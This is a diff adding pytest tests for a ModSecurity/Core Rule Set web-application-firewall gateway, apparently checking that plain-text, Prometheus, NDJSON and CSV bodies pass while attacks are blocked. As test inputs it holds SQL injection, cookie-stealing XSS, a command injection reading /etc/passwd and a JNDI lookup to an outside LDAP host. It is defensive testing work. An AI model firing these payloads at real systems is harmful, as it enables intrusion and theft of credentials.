@@ -459,3 +459,101 @@ def test_exclude_944130_removes_the_java_stand_in(gatehouse, origin, port):
     body = json.dumps({"message": '["org.apache.commons.configuration.JNDIConfiguration", {}]'}).encode()
     start(gatehouse, port, origin, waf="exclude 944130")
     assert send(port, "POST", "/api/notes", JSON, body).status == 200
+
+
+# D33-D34 (tests/waf/default-exclusions.md, "Eighth round"): a text/plain
+# body that is not JSON and the Prometheus text format's media type.  The
+# D1-D32 build refuses both shapes (200002: the body was parsed as JSON;
+# 920470: the `version` parameter), CRS 3.3.4 PL1 as shipped too (920420).
+
+TEXT = [("Content-Type", "text/plain")]
+PROM = [("Content-Type", "text/plain; version=0.0.4")]
+
+SHAPES8 = {
+    "D33 plain text lines": ("POST", "/api/builds/4512/log", TEXT,
+                             b"build 4512 finished in 3m12s on runner-7\n"
+                             b"artifacts: 3 files, 12 MB; cache hit 87 of 90\n"),
+    "D34 prometheus exposition": ("POST", "/api/v1/import/prometheus", PROM,
+                                  b'http_requests_total{method="GET",code="200"} 1027 1796645000000\n'
+                                  b'node_load1{instance="web-1"} 0.42\n'),
+}
+
+
+@pytest.mark.parametrize("shape", sorted(SHAPES8))
+def test_round8_shape_passes(gatehouse, origin, port, shape):
+    g = start(gatehouse, port, origin)
+    method, target, headers, body = SHAPES8[shape]
+    assert send(port, method, target, headers, body).status == 200, g.stderr_tail()
+
+
+def test_defaults_off_refuses_round8_shapes(gatehouse, origin, port):
+    start(gatehouse, port, origin, waf="defaults off")
+    for shape, (method, target, headers, body) in sorted(SHAPES8.items()):
+        assert send(port, method, target, headers, body).status == 403, shape
+    assert untouched(origin)
+
+
+def test_round8_text_bodies_are_still_read(gatehouse, origin, port):
+    g = start(gatehouse, port, origin)
+    # not JSON: read as URL-encoded text, so the attack rules see it
+    for body, rule in ((b"user=1' UNION SELECT username, password FROM users-- -", "942"),
+                       (b"note <script>alert(document.cookie)</script>", "941"),
+                       (b"host=example.com; cat /etc/passwd", "932"),
+                       (b'up{job="x\' UNION SELECT password FROM users-- -"} 1\n', "942")):
+        for headers in (TEXT, PROM):
+            assert send(port, "POST", "/ingest/raw", headers, body).status == 403, (headers, body)
+        assert any("waf crs blocked" in l and rule in l
+                   for l in g.stderr_text().splitlines()), (rule, g.stderr_tail())
+    # opens like JSON: parsed as JSON, and refused when it does not parse
+    for body in (b'  {"q": "x"', b'["a", }'):
+        assert send(port, "POST", "/ingest/raw", TEXT, body).status in (400, 403), body
+        assert "200002" in g.stderr_text().splitlines()[-1], g.stderr_tail()
+    # JSON inside a text/plain body is still read as JSON
+    assert send(port, "POST", "/ingest/raw", TEXT,
+                b'{"q": "1\' UNION SELECT password FROM users-- -"}').status == 403
+    # the media type: another parameter, a value that is not a version, a second header
+    metric = b"node_load1 0.42\n"
+    for headers in ([("Content-Type", "text/plain; version=0.0.4; x=%{#a}")],
+                    [("Content-Type", "text/plain; version=${jndi:ldap://203.0.113.9/a}")],
+                    [("Content-Type", "text/plain; version=0.0.4"), ("Content-Type", "text/x=<a")]):
+        assert send(port, "POST", "/api/v1/import/prometheus", headers, metric).status in (400, 403), headers
+    assert untouched(origin)
+
+
+# D35 ("Eighth round"): NDJSON and CSV bodies, allowed by D2, are read by the
+# rules (an NDJSON body as one JSON array of its lines, a CSV body as one
+# string).  The D1-D34 build passes the injections below to the origin.
+
+NDJSON = [("Content-Type", "application/x-ndjson")]
+CSV = [("Content-Type", "text/csv")]
+
+
+def test_ndjson_and_csv_bodies_are_read(gatehouse, origin, port):
+    g = start(gatehouse, port, origin)
+    # benign bodies of both kinds still pass
+    assert send(port, "POST", "/api/events", NDJSON,
+                b'{"event": "view", "page": "/home"}\n\n{"event": "tap", "id": 7}\n').status == 200
+    assert send(port, "POST", "/api/v1/import", CSV,
+                b"sku,name,price\nA-1,Tea towel,4.50\n").status == 200
+    hits = origin.stats.heads
+    for headers, body in (
+            (NDJSON, b'{"q": "ok"}\n{"q": "1\' UNION SELECT username, password FROM users-- -"}\n'),
+            (NDJSON, b'{"c": "<script>alert(document.cookie)</script>"}\n'),
+            (CSV, b"name,q\nx,1' UNION SELECT username, password FROM users-- -\n")):
+        assert send(port, "POST", "/api/events", headers, body).status == 403, body
+    # a line that is not JSON fails the parser
+    assert send(port, "POST", "/api/events", NDJSON, b'{"q": "ok"}\nnot json\n').status in (400, 403)
+    assert "200002" in g.stderr_text().splitlines()[-1], g.stderr_tail()
+    assert origin.stats.heads == hits
+
+
+def test_rewritten_bodies_near_the_body_limit_pass(gatehouse, origin, port):
+    # the default body_limit is 16 KiB: a CSV and a text body just under it,
+    # with many newlines and quotes, grow past it once escaped for the JSON
+    # parser (D33, D35); ModSecurity must not cut them into broken JSON
+    start(gatehouse, port, origin)
+    rows = b"".join(b'A-%d,"Mug, 12oz",9.99\n' % i for i in range(700))[:16000]
+    assert len(rows) <= 16 * 1024
+    assert send(port, "POST", "/api/v1/import", CSV, rows).status == 200
+    lines = b"".join(b"worker %d done\n" % i for i in range(1200))[:16000]
+    assert send(port, "POST", "/ingest/raw", TEXT, lines).status == 200
